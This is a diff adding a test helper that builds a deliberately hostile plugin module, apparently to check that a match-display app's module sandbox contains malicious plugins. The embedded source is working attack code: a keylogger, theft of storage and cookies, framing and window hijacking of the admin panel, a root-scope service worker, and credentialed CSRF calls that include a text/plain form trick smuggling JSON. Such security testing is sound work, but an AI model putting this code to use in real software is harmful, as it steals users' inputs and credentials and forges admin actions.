@@ -1,0 +1,173 @@
+import { buildChanged } from './broken-modules.ts';
+import { brokenModules } from './folders.ts';
+
+const name = 'hostile';
+
+/** Folder of its build, for `MODULE_DIRS`. */
+export const hostileBuild = `${brokenModules}${name}/dist`;
+
+/**
+ * A matches module that passes every check and shows the matches as ever. Beside that it notes what is
+ * typed and kept wherever its code runs, reaches for the forms from there, and calls the organisers' site
+ * of the address that `attack` gets. What it gained stands in `window.gained`.
+ */
+const source = `import good from './good.tsx';
+
+const gained: string[] = [];
+Object.assign(window, { gained });
+const note = (what: string, value: unknown) => gained.push(what + ': ' + String(value));
+
+function listenIn(place: Window & typeof globalThis, where: string): void {
+  for (const kind of ['keydown', 'keypress', 'input', 'beforeinput', 'change', 'paste']) {
+    place.addEventListener(
+      kind,
+      (event) => {
+        note(where + ' ' + kind, Reflect.get(event, 'key') ?? Reflect.get(event, 'data'));
+        const target = event.target;
+        if (target !== null) note(where + ' value', Reflect.get(target, 'value'));
+      },
+      { capture: true },
+    );
+  }
+}
+
+function readStorage(): void {
+  for (const store of [localStorage, sessionStorage]) {
+    for (const key of Object.keys(store)) note('stored ' + key, store.getItem(key));
+  }
+  note('cookies', document.cookie);
+}
+
+listenIn(window, 'own page');
+addEventListener('storage', (event) => note('heard ' + event.key, event.newValue));
+setInterval(readStorage, 200);
+
+/** Opens an address in a window and listens in there as long as it lets itself be touched. */
+function openAndListen(path: string): void {
+  const opened = window.open(path);
+  const reach = () => {
+    try {
+      if (opened === null || opened.closed) return;
+      const there = opened as Window & typeof globalThis;
+      note('window at', there.location.pathname);
+      if (there.location.pathname === path && Reflect.get(there, 'listened') !== true) {
+        Reflect.set(there, 'listened', true);
+        listenIn(there, 'window');
+      }
+    } catch (error) {
+      note('window refused', error);
+    }
+  };
+  setInterval(reach, 50);
+}
+
+function frame(path: string): void {
+  const element = document.createElement('iframe');
+  element.src = path;
+  element.addEventListener('load', () => {
+    try {
+      const there = element.contentWindow as (Window & typeof globalThis) | null;
+      if (there?.document.querySelector('#root')) listenIn(there, 'frame');
+    } catch (error) {
+      note('frame refused', error);
+    }
+  });
+  document.body.append(element);
+}
+
+/** Draws the form in this document, where its own code goes on. */
+function enterWithin(path: string): void {
+  history.pushState({}, '', path);
+  dispatchEvent(new PopStateEvent('popstate', { state: {} }));
+}
+
+/** Reads the HTML of a form, and whatever stands in it for that page alone. */
+async function readPage(path: string): Promise<void> {
+  const answer = await fetch(path, { credentials: 'include' });
+  note('html', await answer.text());
+}
+
+async function takeOver(): Promise<void> {
+  const script = document.querySelector('script[src*="/modules/matches/"]')?.getAttribute('src');
+  await navigator.serviceWorker
+    .register(script ?? '/', { scope: '/' })
+    .then(() => note('worker', 'registered'))
+    .catch(() => undefined);
+}
+
+function sendForm(address: string, target: string): void {
+  const form = document.createElement('form');
+  form.method = 'post';
+  form.action = address;
+  form.target = target;
+  form.enctype = 'text/plain';
+  const field = document.createElement('input');
+  field.name = '{"expectedStage":"GROUPS","until":null,"x":"';
+  field.value = '"}';
+  form.append(field);
+  document.body.append(form);
+  form.submit();
+}
+
+interface Call {
+  method: string;
+  path: string;
+  body: string;
+}
+
+async function callBy(base: string, { method, path, body }: Call): Promise<void> {
+  const address = base + '/api' + path;
+  const withBody = method === 'GET' ? {} : { body };
+  const kinds = ['application/json', 'text/plain'];
+  for (const mode of ['cors', 'no-cors'] as const) {
+    for (const type of kinds) {
+      await fetch(address, {
+        method,
+        mode,
+        credentials: 'include',
+        headers: { 'content-type': type },
+        ...withBody,
+      })
+        .then(async (answer) => note('read ' + path, answer.status + ' ' + (await answer.text())))
+        .catch(() => undefined);
+    }
+  }
+  await new Promise<void>((resolve) => {
+    const call = new XMLHttpRequest();
+    call.open(method, address);
+    call.withCredentials = true;
+    call.onloadend = () => {
+      if (call.status !== 0) note('read ' + path, call.status + ' ' + call.responseText);
+      resolve();
+    };
+    call.send(method === 'GET' ? null : body);
+  });
+  if (method === 'GET') {
+    const picture = new Image();
+    picture.src = address;
+  } else {
+    navigator.sendBeacon(address, body);
+    sendForm(address, '_blank');
+    frame(address);
+    const framed = document.createElement('iframe');
+    framed.name = 'framed';
+    document.body.append(framed);
+    sendForm(address, 'framed');
+  }
+}
+
+/** Tries every call by every way, then the panel itself in a window and in a frame. */
+async function attack(port: string, calls: readonly Call[]): Promise<void> {
+  const base = [location.protocol, '', location.hostname + ':' + port].join('/');
+  for (const call of calls) await callBy(base, call);
+  frame(base + '/moduly');
+  openAndListen(base + '/moduly');
+}
+
+Object.assign(window, { hostile: { openAndListen, frame, enterWithin, readPage, takeOver, attack } });
+export default good;
+`;
+
+export async function buildHostileModule(): Promise<void> {
+  await buildChanged(name, source);
+}
